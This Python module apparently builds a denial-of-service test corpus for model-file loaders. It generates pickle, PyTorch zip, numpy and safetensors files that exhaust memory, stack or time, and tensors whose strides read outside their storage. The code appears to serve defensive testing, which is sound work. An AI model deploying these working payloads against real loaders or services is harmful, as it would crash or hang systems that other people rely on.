"""Files that try to exhaust memory, the stack or time, all of them small."""

from __future__ import annotations

import io
import json
import struct
import zipfile
from pathlib import Path

from attacks.build import (
    Builder,
    blob,
    call,
    dictionary,
    legacy_stream,
    ndarray,
    number,
    persistent,
    storage_id,
    tensor,
    text,
    torch_zip,
    whole,
    writes,
)

TEN_GIGABYTES = 10 * 2**30
TEN_BILLION = 10**10


def bytes_of_ten_gigabytes(canary: Path) -> bytes:
    """BINBYTES8 that claims ten gigabytes and has ten bytes."""
    return b"\x80\x04\x8e" + struct.pack("<Q", TEN_GIGABYTES) + b"0123456789."


def bytearray_of_ten_gigabytes(canary: Path) -> bytes:
    """BYTEARRAY8, which Python's own unpickler allocates before it reads."""
    return b"\x80\x05\x96" + struct.pack("<Q", TEN_GIGABYTES) + b"0123456789."


def text_of_four_gigabytes(canary: Path) -> bytes:
    """BINUNICODE that claims all it can."""
    return b"\x80\x04X" + struct.pack("<I", 2**32 - 1) + b"x."


def frame_of_ten_gigabytes(canary: Path) -> bytes:
    """A frame longer than the file."""
    return b"\x80\x04\x95" + struct.pack("<Q", TEN_GIGABYTES) + b"}."


def memo_index_of_four_billion(canary: Path) -> bytes:
    """LONG_BINPUT far out, for which C's unpickler grows its memo to tens of gigabytes."""
    return b"\x80\x02}r" + struct.pack("<I", 2**32 - 1) + b"."


def integer_of_a_gigabyte(canary: Path) -> bytes:
    """LONG4 that claims two gigabytes."""
    return b"\x80\x02\x8b" + struct.pack("<i", 2**31 - 1) + b"\1."


def decimal_of_a_million_digits(canary: Path) -> bytes:
    """An integer whose decimal text takes quadratic time to parse."""
    return whole(b"L" + b"9" * 1_000_000 + b"L\n")


def tensor_of_zero_strides(canary: Path) -> bytes:
    """One float blown up to ten billion by strides of zero."""
    weight = tensor(storage_id("0", 1), (100_000, 100_000), (0, 0))
    return torch_zip(dictionary({"main.0.weight": weight}), {"0": b"\0" * 4})


def tensor_beyond_its_storage(canary: Path) -> bytes:
    """A window that leaves its storage, which would read foreign memory."""
    weight = tensor(storage_id("0", 4), (4,), (1,), offset=1_000_000)
    return torch_zip(dictionary({"main.0.weight": weight}), {"0": b"\0" * 16})


def tensor_of_negative_strides(canary: Path) -> bytes:
    """A window that walks backwards out of its storage."""
    weight = tensor(storage_id("0", 4), (4,), (-1,))
    return torch_zip(dictionary({"main.0.weight": weight}), {"0": b"\0" * 16})


def storage_of_ten_billion(canary: Path) -> bytes:
    """A storage that claims ten billion floats and has four bytes (zip)."""
    weight = tensor(storage_id("0", TEN_BILLION), (4,), (1,))
    return torch_zip(dictionary({"main.0.weight": weight}), {"0": b"\0" * 4})


def legacy_storage_of_ten_billion(canary: Path) -> bytes:
    """The same in torch's older stream."""
    weight = tensor(storage_id("0", TEN_BILLION), (4,), (1,))
    keys = b"](" + text("0") + b"e"
    return legacy_stream(dictionary({"main.0.weight": weight}), keys, struct.pack("<q", TEN_BILLION) + b"\0" * 16)


def array_of_ten_billion(canary: Path) -> bytes:
    """A numpy array whose shape claims more than its bytes."""
    return whole(dictionary({"g_ema": ndarray((TEN_BILLION,), b"\0" * 4)}))


def array_whose_sizes_overflow(canary: Path) -> bytes:
    """Sizes whose product is small only when it overflows 64 bits."""
    return whole(dictionary({"g_ema": ndarray((2**32, 2**32), b"\0" * 4)}))


def zip_bomb(canary: Path) -> bytes:
    """A compressed archive: 200 MB of zeros in 200 kB."""
    weight = tensor(storage_id("0", 50_000_000), (50_000_000,), (1,))
    return torch_zip(dictionary({"main.0.weight": weight}), {"0": bytes(200_000_000)}, zipfile.ZIP_DEFLATED)


def zip_that_claims_ten_gigabytes(canary: Path) -> bytes:
    """An archive whose directory claims ten gigabytes for an entry of four bytes."""
    data = torch_zip(dictionary({"main.0.weight": tensor(storage_id("0", 2**30), (4,), (1,))}), {"0": b"\0" * 4})
    entry = data.rindex(b"PK\x01\x02", 0, data.rindex(b"archive/data/0"))
    claimed = struct.pack("<II", 2**32 - 2, 2**32 - 2)
    return data[: entry + 20] + claimed + data[entry + 28 :]


def zip_of_overlapping_entries(canary: Path) -> bytes:
    """A thousand entries that are all the same megabyte of the file."""
    data = torch_zip(b"}", {"0": bytes(1_000_000)})
    end = data.rindex(b"PK\x05\x06")
    start = struct.unpack("<I", data[end + 16 : end + 20])[0]
    entry = data[data.rindex(b"PK\x01\x02", 0, end) : end]
    directory = data[start:end] + b"".join(
        entry.replace(b"archive/data/0", f"archive/d{i:05d}".encode()) for i in range(1000)
    )
    tail = struct.pack("<HHII", 1003, 1003, len(directory), start)
    return data[:start] + directory + data[end : end + 8] + tail + b"\0\0"


def the_same_megabyte_again_and_again(canary: Path) -> bytes:
    """One storage of a megabyte under five hundred names of a DCGAN: the copies would be half a gigabyte."""
    storage = storage_id("0", 250_000)
    weights = {"main.0.weight": tensor(storage, (125, 125, 4, 4), (2000, 16, 4, 1))}
    weights |= {"main.3.weight": tensor(storage, (125, 3, 4, 4), (2000, 16, 4, 1))}
    weights |= {f"x{i}": tensor(storage, (250_000,), (1,)) for i in range(500)}
    return torch_zip(dictionary(weights), {"0": bytes(1_000_000)})


def millions_of_empty_sets(canary: Path) -> bytes:
    """One byte of file for 216 bytes of memory each."""
    return whole(b"\x8f" * 1_000_000)


def deeply_nested_tuples(canary: Path) -> bytes:
    """Hundreds of thousands of tuples within each other."""
    return whole(b")" + b"\x85" * 400_000)


def deeply_nested_key(canary: Path) -> bytes:
    """A deep tuple as a dictionary's key: hashing it overflows the C stack."""
    return whole(b"}" + b")" + b"\x85" * 400_000 + b"Ns")


def list_that_contains_itself(canary: Path) -> bytes:
    """A cyclic list."""
    return whole(b"]q\0h\0a")


def dictionary_that_contains_itself(canary: Path) -> bytes:
    """A cyclic dictionary under the names that the readers look for."""
    names = b"".join(text(key) + b"h\0" for key in ("G_ema", "g_ema", "state_dict", "_modules"))
    return whole(b"}q\0(" + names + b"u")


def module_that_contains_itself(canary: Path) -> bytes:
    """A cyclic module tree."""
    state = b"}q\1(" + text("_parameters") + b"}" + text("_modules") + b"}q\2u"
    module = persistent("Generator", state) + b"q\3"
    return whole(
        b"}" + text("G_ema") + module + b"s0" + b"h\2" + text("synthesis") + b"h\3s0" + b"}" + text("G_ema") + b"h\3s"
    )


def modules_that_double_at_each_level(canary: Path) -> bytes:
    """Forty levels of two references each: a trillion modules when walked."""
    body = persistent("Leaf", dictionary({"_modules": b"}"})) + b"q\0"
    for level in range(40):
        children = b"}(" + text("a") + b"h" + bytes([level]) + text("b") + b"h" + bytes([level]) + b"u"
        body += b"0" + persistent("Node", dictionary({"_modules": children})) + b"q" + bytes([level + 1])
    return whole(body + b"0" + b"}" + text("G_ema") + b"h" + bytes([40]) + b"s")


def thousands_of_layers(canary: Path) -> bytes:
    """A StyleGAN3 that lists more layers than any model has."""
    names = b"](" + text("L0") * 100_000 + b"e"
    affine = persistent("FullyConnectedLayer", dictionary({"_modules": b"}"}))
    weight = ndarray((1, 1), b"\0" * 4)
    parts = {"_parameters": dictionary({"weight": weight}), "_modules": dictionary({"affine": affine})}
    synthesis = {
        "layer_names": names,
        "_modules": dictionary({"input": persistent("SynthesisInput", dictionary(parts))}),
    }
    dense = persistent(
        "FullyConnectedLayer", dictionary({"_parameters": dictionary({"weight": weight}), "_modules": b"}"})
    )
    mapping = persistent("MappingNetwork", dictionary({"_modules": dictionary({"fc0": dense})}))
    children = {"synthesis": persistent("SynthesisNetwork", dictionary(synthesis)), "mapping": mapping}
    return whole(dictionary({"G_ema": persistent("Generator", dictionary({"_modules": dictionary(children)}))}))


def inner_bytes_within_inner_bytes_forever(canary: Path) -> bytes:
    """A thousand streams within each other, which a recursive reader would follow."""
    body = b"}"
    for _ in range(1000):
        body = call("torch.storage", "_load_from_bytes", blob(legacy_stream(body)))
    return whole(body)


def safetensors_header_of_ten_gigabytes(canary: Path) -> bytes:
    """A header length beyond the file."""
    return struct.pack("<Q", TEN_GIGABYTES) + b"{}" + b" " * 100


def safetensors_tensor_of_ten_billion(canary: Path) -> bytes:
    """A tensor that claims more bytes than the file has."""
    entry = {"dtype": "F32", "shape": [TEN_BILLION], "data_offsets": [0, 4 * TEN_BILLION]}
    header = json.dumps({"mapping.w_avg": entry}).encode()
    return struct.pack("<Q", len(header)) + header + b"\0" * 4


def safetensors_architecture_of_a_million_channels(canary: Path) -> bytes:
    """A header whose architecture would allocate terabytes if it were built before the weights are compared."""
    metadata = {"architecture": "stylegan2", "z_dim": "1000000", "w_dim": "1000000", "resolution": "1024"}
    metadata |= {"channel_base": "1000000", "channel_max": "1000000", "mapping_layers": "60"}
    header = json.dumps({"__metadata__": metadata}).encode()
    return struct.pack("<Q", len(header)) + header


def safetensors_architecture_of_a_million_layers(canary: Path) -> bytes:
    """A header that would make a million modules."""
    header = json.dumps({"__metadata__": {"architecture": "stylegan2", "mapping_layers": "1000000"}}).encode()
    return struct.pack("<Q", len(header)) + header


def copies_of_one_text(canary: Path) -> bytes:
    """A text of a megabyte, encoded to bytes a thousand times."""
    first = call("_codecs", "encode", text("x" * 1_000_000) + b"q\0", text("latin1") + b"q\1")
    return whole(b"](" + first + call("_codecs", "encode", b"h\0", b"h\1") * 1000 + b"e")


def dictionaries_of_one_list(canary: Path) -> bytes:
    """A list of ten thousand pairs, made a dictionary three thousand times."""
    pairs = b"](" + b"".join(text(f"{i:x}") + b"N\x86" for i in range(10_000)) + b"eq\0"
    return whole(pairs + b"0](" + call("collections", "OrderedDict", b"h\0") * 3000 + b"e")


def sets_of_one_list(canary: Path) -> bytes:
    """The same with sets."""
    items = b"](" + b"".join(number(i) for i in range(10_000)) + b"eq\0"
    return whole(items + b"0](" + call("builtins", "set", b"h\0") * 2000 + b"e")


def inner_streams_of_the_same_bytes(canary: Path) -> bytes:
    """A small stream of a hundred thousand empty sets, read fifty times."""
    stream = legacy_stream(b"(" + b"\x8f" * 100_000 + b"t")
    first = call("torch.storage", "_load_from_bytes", blob(stream) + b"q\0")
    return whole(b"](" + first + call("torch.storage", "_load_from_bytes", b"h\0") * 50 + b"e")


def views_of_one_storage_of_bfloat16(canary: Path) -> bytes:
    """Five hundred numbers out of one storage of a megabyte that has to be converted before it can be used."""
    storage = storage_id("0", 500_000, "BFloat16Storage")
    weights = {"main.0.weight": tensor(storage, (5, 4, 4, 4), (64, 16, 4, 1))}
    weights |= {f"x{i}": tensor(storage, (1,), (1,)) for i in range(500)}
    return torch_zip(dictionary(weights), {"0": bytes(1_000_000)})


def variables_that_are_all_the_same_array(canary: Path) -> bytes:
    """A TensorFlow network whose five hundred biases are one megabyte, each of which has to be computed anew."""
    array = ndarray((250_000,), b"\0" * 1_000_000) + b"q\0"
    names = (f"{r}x{r}/Conv1/mod_bias" for r in range(500))
    pairs = b"".join(text(name) + b"h\0\x86" for name in names)
    mapping = b"cdnnlib.tflib.network\nNetwork\n)\x81" + dictionary({"variables": b"](" + pairs + b"e"}) + b"b"
    components = dictionary({"mapping": mapping, "synthesis": mapping})
    state = dictionary({"version": b"K\x04", "variables": b"]", "components": components})
    network = b"cdnnlib.tflib.network\nNetwork\n)\x81" + state + b"b"
    return whole(array + b"0(" + network * 3 + b"t")


def modules_with_endless_names(canary: Path) -> bytes:
    """A thousand modules whose names are a megabyte for each level that they lie deep."""
    body = text("x" * 1_000_000) + b"q\0" + text("y" * 1_000_000) + b"q\1"
    body += persistent("Leaf", dictionary({"_modules": b"}"})) + b"q\2"
    for level in range(10):
        children = b"}(h\0h" + bytes([level + 2]) + b"h\1h" + bytes([level + 2]) + b"u"
        body += persistent("Node", dictionary({"_modules": children})) + b"q" + bytes([level + 3])
    return whole(body + b"0" * 13 + b"}" + text("G_ema") + b"h" + bytes([12]) + b"s")


def keys_of_the_same_hash(canary: Path) -> bytes:
    """Integers between which a dictionary has to tell by comparing each with all others."""
    keys = b"".join(b"\x8a\x0a" + (i * (2**61 - 1)).to_bytes(10, "little") + b"N" for i in range(60_000))
    return whole(b"}(" + keys + b"u")


def many_small_numbers(canary: Path) -> bytes:
    """A million instructions that each are harmless."""
    return whole(b"](" + number(1) * 1_000_000 + b"e")


def empty_zip_with_many_entries(canary: Path) -> bytes:
    """A hundred thousand and one empty entries."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("archive/data.pkl", whole(b"}"))
        for i in range(100_001):
            archive.writestr(f"archive/{i}", b"")
    return buffer.getvalue()


SIZE_ATTACKS: list[Builder] = [
    writes(body)
    for body in (
        bytes_of_ten_gigabytes,
        bytearray_of_ten_gigabytes,
        text_of_four_gigabytes,
        frame_of_ten_gigabytes,
        memo_index_of_four_billion,
        integer_of_a_gigabyte,
        decimal_of_a_million_digits,
        tensor_of_zero_strides,
        tensor_beyond_its_storage,
        tensor_of_negative_strides,
        storage_of_ten_billion,
        legacy_storage_of_ten_billion,
        array_of_ten_billion,
        array_whose_sizes_overflow,
        zip_bomb,
        zip_that_claims_ten_gigabytes,
        zip_of_overlapping_entries,
        the_same_megabyte_again_and_again,
        millions_of_empty_sets,
        deeply_nested_tuples,
        deeply_nested_key,
        list_that_contains_itself,
        dictionary_that_contains_itself,
        module_that_contains_itself,
        modules_that_double_at_each_level,
        thousands_of_layers,
        inner_bytes_within_inner_bytes_forever,
        safetensors_header_of_ten_gigabytes,
        safetensors_tensor_of_ten_billion,
        safetensors_architecture_of_a_million_channels,
        safetensors_architecture_of_a_million_layers,
        copies_of_one_text,
        dictionaries_of_one_list,
        sets_of_one_list,
        inner_streams_of_the_same_bytes,
        views_of_one_storage_of_bfloat16,
        variables_that_are_all_the_same_array,
        modules_with_endless_names,
        keys_of_the_same_hash,
        many_small_numbers,
        empty_zip_with_many_entries,
    )
]
